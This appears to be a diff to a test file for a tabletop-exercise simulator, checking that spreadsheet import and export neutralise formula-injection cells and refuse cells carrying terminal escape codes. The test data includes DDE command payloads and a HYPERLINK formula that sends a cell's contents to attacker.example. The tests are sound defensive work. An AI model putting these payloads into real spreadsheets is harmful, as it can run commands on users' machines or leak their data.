@@ -19,7 +19,7 @@ from simulator.loading.pack import load_pack
 from .attack_kit import MSEL_HEADER, refused, rewrite_part, small_workbook, tabletop
 
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
-            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -65,7 +65,7 @@ def test_our_own_neutralised_export_round_trips(tmp_path):
         assert [cells for _n, cells in read_sheet(sheet).rows][1:] == first
         tabletop("msel", "import", sheet, "-o", tmp_path / suffix / "scenario.yaml").check_returncode()
         assert export_rows(load_pack(tmp_path / suffix)) == first
-    for text in ["=x", "'=x", "''+x", "'plain", "plain", "-", "'"]:
+    for text in ["=x", "'=x", "''+x", "'plain", "plain", "-", "'", "\t=1", "\r=1", "'\t"]:
         assert restore_cell(neutralise_cell(text)) == text
 
 
@@ -194,3 +194,11 @@ def test_contingencies_nested_thousands_deep_are_refused(tmp_path):
         result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
         assert refused(result) and "deep.csv: row 2:" in result.stderr, result.stderr
         assert not (tmp_path / "out").exists()
+
+
+def test_control_characters_in_a_cell_are_refused_by_row_and_column(tmp_path):
+    sheet = _write_csv(tmp_path / "esc.csv", [["I1", "00:00", "Desk", "mayor", "phone", "Hello \x1b[2J\x1b]0;owned\x07", "",
+                                               "", "", ""]])
+    result = tabletop("msel", "import", sheet, "-o", tmp_path / "out" / "scenario.yaml")
+    assert refused(result) and "esc.csv: row 2: the cell in column 6" in result.stderr and "\\x1b" in result.stderr
+    assert "\x1b" not in result.stderr and not (tmp_path / "out").exists()
